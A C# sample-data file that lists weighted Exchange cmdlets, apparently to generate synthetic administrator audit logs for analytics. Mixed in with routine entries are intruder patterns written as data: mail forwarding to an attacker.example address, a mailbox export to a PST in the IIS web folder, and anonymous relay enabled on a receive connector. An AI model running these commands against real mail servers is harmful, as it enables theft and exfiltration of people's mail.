namespace CloudAnalytics.Cli.Samples;

/// <summary>A cmdlet that an administrator runs, with what the logs say of it.</summary>
/// <param name="Cmdlet">Its name.</param>
/// <param name="Parameters">Its parameters; a number sign becomes somebody's address.</param>
/// <param name="Weight">How frequent it is.</param>
sealed record AdminAction(string Cmdlet, string Parameters, int Weight)
{
    /// <summary>Whether it changes something, so that the audit log has it.</summary>
    public bool Changes => !Cmdlet.StartsWith("Get-", StringComparison.Ordinal);

    public static readonly AdminAction[] All =
    [
        new("Get-Mailbox", "-Identity \"#\"", 30),
        new("Get-MessageTrackingLog", "-Sender \"#\" -ResultSize \"Unlimited\"", 14),
        new("Get-Queue", "", 12),
        new("Get-MailboxStatistics", "-Identity \"#\"", 10),
        new("Set-Mailbox", "-Identity \"#\" -ProhibitSendQuota \"2 GB (2,147,483,648 bytes)\"", 8),
        new("Add-MailboxPermission", "-Identity \"#\" -User \"CONTOSO\\helpdesk\" -AccessRights \"FullAccess\"", 4),
        new("New-TransportRule", "-Name \"Disclaimer\" -ApplyHtmlDisclaimerText \"<p>Confidential</p>\"", 1),
        new("Set-ReceiveConnector", "-Identity \"EX01\\Anonymous Relay EX01\" -PermissionGroups \"AnonymousUsers\"", 1),
        new("Enable-Mailbox", "-Identity \"#\"", 2),
        new("Set-Mailbox", "-Identity \"#\" -ForwardingSmtpAddress \"smtp:collector@attacker.example\"", 1),
    ];

    /// <summary>A whole mailbox goes into a file: what intruders do, and administrators seldom.</summary>
    public static readonly AdminAction Export =
        new("New-MailboxExportRequest", "-Mailbox \"#\" -FilePath \"\\\\EX02\\c$\\inetpub\\wwwroot\\aspnet_client\\a.pst\"", 0);

    /// <summary>What monitoring runs all day.</summary>
    public static readonly AdminAction Probe = new("Get-Mailbox", "-ResultSize \"1\"", 0);
}
